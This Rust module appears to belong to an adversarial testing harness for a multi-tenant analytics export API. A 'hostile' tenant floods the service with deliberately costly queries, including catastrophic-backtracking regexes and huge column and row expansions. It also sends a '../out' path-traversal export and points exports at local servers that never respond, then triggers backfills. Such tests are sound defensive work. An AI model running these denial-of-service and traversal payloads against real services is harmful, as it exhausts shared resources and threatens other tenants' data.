//! Exports of the highest cost: slow queries, servers that hang, folders of other tenants.

use super::context::{AttackContext, EXPORT_FOLDER};
use crate::attack::http::Outcome;
use crate::attack::tenants::text;
use anyhow::{Context, Result};
use serde_json::{Value, json};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use tokio::net::TcpListener;
use tokio::time::sleep;

/// Exports that are kept before the oldest are deleted.
const KEPT: usize = 8;

/// Starts a server on this machine that accepts connections and never responds.
pub(super) async fn hanging_server() -> Result<SocketAddr> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await;
    let listener = listener.context("cannot listen")?;
    let address = listener.local_addr().context("cannot listen")?;
    tokio::task::spawn_local(async move {
        let mut held = Vec::new();
        while let Ok((stream, _)) = listener.accept().await {
            held.push(stream);
        }
    });
    Ok(address)
}

/// Creates exports with the most expensive queries, into the good tenant's folder, and exports with
/// queries that must be refused.
pub(super) async fn queries(context: Arc<AttackContext>) {
    let costly = costly_queries();
    let refused = refused_queries();
    loop {
        for (name, query) in &costly {
            let new = new_export(EXPORT_FOLDER, query);
            export(&context, &format!("costly exports: {name}"), &new).await;
        }
        for query in &refused {
            let new = new_export(EXPORT_FOLDER, query);
            let made = context.tenants.hostile.ask("POST", "batch_exports/", &new);
            let what = "exports with queries that are refused";
            context.findings.note_among(what, &made.await, &[400]);
            sleep(context.pause * 5).await;
        }
        let outside = new_export("../out", "SELECT uuid FROM events");
        export(&context, "exports to a folder outside", &outside).await;
        clear(&context, KEPT).await;
    }
}

fn new_export(folder: &str, query: &str) -> Value {
    let destination = json!({"type": "FileSystem", "config": {"path": folder}});
    json!({"name": "Costly", "interval": "every 5 minutes",
        "destination": destination, "hogql_query": query})
}

/// Names and texts of the most expensive queries that the check of queries accepts.
fn costly_queries() -> Vec<(&'static str, String)> {
    // As many steps of patterns as a query may have.
    let matched = ["a[ab]{300}c", "b[ab]{300}c", "a[ab]{299}c", "b[ab]{299}c"];
    let matched = matched.map(|pattern| format!("match(properties, '{pattern}')"));
    // As many columns as a query has words for.
    let columns = (0..250).map(|number| format!("lower(properties) AS c{number}"));
    let columns: Vec<String> = columns.collect();
    vec![
        (
            "patterns",
            format!("SELECT uuid FROM events WHERE {}", matched.join(" OR ")),
        ),
        (
            "backtracking",
            "SELECT uuid FROM events WHERE match(properties, '(a+)+$') OR properties LIKE '%a%b%c%d%'"
                .to_owned(),
        ),
        (
            "groups",
            "SELECT distinct_id, uniqExact(properties) AS a, groupUniqArray(properties) AS b \
             FROM events GROUP BY distinct_id"
                .to_owned(),
        ),
        (
            "arrays",
            "SELECT groupArray(properties) AS a FROM events".to_owned(),
        ),
        (
            "rows",
            "SELECT arrayJoin(splitByChar('a', properties)) AS a, \
             arrayJoin(splitByChar('b', properties)) AS b, \
             arrayJoin(splitByChar('c', properties)) AS c FROM events"
                .to_owned(),
        ),
        (
            "columns",
            format!("SELECT {} FROM events", columns.join(", ")),
        ),
    ]
}

/// Queries that cost more than one may, or join and sort.
fn refused_queries() -> Vec<String> {
    let matched: Vec<String> = (0..20)
        .map(|number| format!("match(properties, 'a[ab]{{{}}}c')", 280 + number))
        .collect();
    vec![
        format!("SELECT uuid FROM events WHERE {}", matched.join(" AND ")),
        "SELECT uuid FROM events ORDER BY properties".to_owned(),
        "SELECT a.uuid FROM events AS a JOIN events AS b ON a.event = b.event".to_owned(),
    ]
}

/// Creates exports to servers that accept a connection and never respond.
pub(super) async fn hanging(context: Arc<AttackContext>, hung: SocketAddr) {
    let (host, port) = (hung.ip().to_string(), hung.port());
    let destinations = [
        json!({"type": "HTTP", "config": {"url": format!("http://{hung}/batch/"), "token": "t"}}),
        json!({"type": "Postgres", "config": {"user": "u", "password": "p", "host": host, "port": port,
            "database": "d", "table_name": "t"}}),
        json!({"type": "S3", "config": {"bucket_name": "bucket", "region": "eu-central-1", "prefix": "p",
            "aws_access_key_id": "a", "aws_secret_access_key": "b",
            "endpoint_url": format!("http://{hung}")}}),
    ];
    loop {
        for destination in &destinations {
            let new = json!({"name": "Hanging", "interval": "every 5 minutes", "destination": destination});
            export(&context, "exports to servers that hang", &new).await;
            let test = context
                .tenants
                .hostile
                .ask("POST", "batch_exports/test/", &new);
            let outcome = test.await;
            context
                .findings
                .note("tests of destinations that hang", &outcome);
        }
        clear(&context, KEPT).await;
    }
}

/// Creates an export and a backfill of all its events.
async fn export(context: &AttackContext, what: &str, new: &Value) {
    let hostile = &context.tenants.hostile;
    let made = hostile.ask("POST", "batch_exports/", new).await;
    context.findings.note(what, &made);
    if let Some(id) = text(&made.json(), "/id") {
        let path = format!("batch_exports/{id}/backfill/");
        let backfilled = hostile.ask("POST", &path, &json!({})).await;
        context
            .findings
            .note("backfills of everything", &backfilled);
    }
    sleep(context.pause * 20).await;
}

/// Deletes the oldest exports until `kept` are left.
pub(super) async fn clear(context: &AttackContext, kept: usize) {
    let hostile = &context.tenants.hostile;
    let listed = hostile
        .ask("GET", "batch_exports/?limit=200", &Value::Null)
        .await;
    let json = listed.json();
    let results = json.pointer("/results").and_then(Value::as_array);
    let ids = results
        .into_iter()
        .flatten()
        .filter_map(|it| text(it, "/id"));
    let ids: Vec<String> = ids.collect();
    let beyond = ids.len().saturating_sub(kept);
    for id in ids.iter().take(beyond) {
        let path = format!("batch_exports/{id}/");
        let deleted: Outcome = hostile.ask("DELETE", &path, &Value::Null).await;
        context.findings.note("deleted exports", &deleted);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::findings::Outcomes;
    use crate::attack::hostile::unproved;

    #[test]
    fn each_costly_query_has_a_proof_of_its_own() {
        let missing = unproved(&Outcomes::new(), &["queries".to_owned()]);
        for (name, query) in costly_queries() {
            let attempt = format!("costly exports: {name}: ");
            assert!(missing.iter().any(|it| it.contains(&attempt)), "{name}");
            // Bytes that a query may have.
            assert!(query.len() < 20_000, "{name}");
        }
    }
}
